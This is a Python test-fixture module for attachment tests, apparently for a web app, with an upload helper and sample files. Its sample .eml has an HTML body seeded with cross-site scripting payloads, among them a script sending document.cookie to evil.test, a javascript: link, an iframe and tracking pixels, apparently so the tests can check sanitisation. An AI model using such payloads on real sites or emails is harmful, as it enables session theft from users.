"""Small real files for the attachment tests: a PNG drawn by Pillow, a PDF's first bytes, an .eml
whose HTML body carries a script and remote images, and one of its own attachments."""

from __future__ import annotations

import io
from typing import Any

from PIL import Image

from tests.conftest import Browser


def png(width: int = 64, height: int = 40, color: str = "#3b82f6") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "PNG")
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

EML = b"""From: Ann Client <ann@acme.test>
To: Max Member <max@agency.test>
Subject: The brief for the homepage
Date: Mon, 30 Nov 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="XYZ"

--XYZ
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=utf-8

Hello Max, here is the brief.
--ALT
Content-Type: text/html; charset=utf-8

<html><head><style>body{display:none}</style><script>alert('head')</script></head>
<body><p onmouseover="steal()">Hello <b>Max</b>, here is the brief.</p>
<script>document.location='https://evil.test/'+document.cookie</script>
<img src="https://tracker.test/open.gif?id=1" alt="tracker">
<img src="http://tracker.test/pixel.png">
<a href="javascript:alert(1)">click</a>
<iframe src="https://evil.test/frame"></iframe></body></html>
--ALT--

--XYZ
Content-Type: text/plain; name="notes.txt"
Content-Disposition: attachment; filename="notes.txt"

Colours: navy and gold.
--XYZ--
"""


async def upload(
    who: Browser, task_id: int, *files: tuple[str, bytes], visibility: str = "internal", htmx: bool = True
) -> Any:
    """Post files to a card as the dialog's script does (multipart, one field `file` each)."""
    if not who.csrf:
        await who.get(f"/tasks/{task_id}")
    headers = {"x-csrftoken": who.csrf}
    if htmx:
        headers["hx-request"] = "true"
    return await who.http.post(
        f"/tasks/{task_id}/attachments",
        data={"visibility": visibility},
        files=[("file", (name, content)) for name, content in files],
        headers=headers,
    )
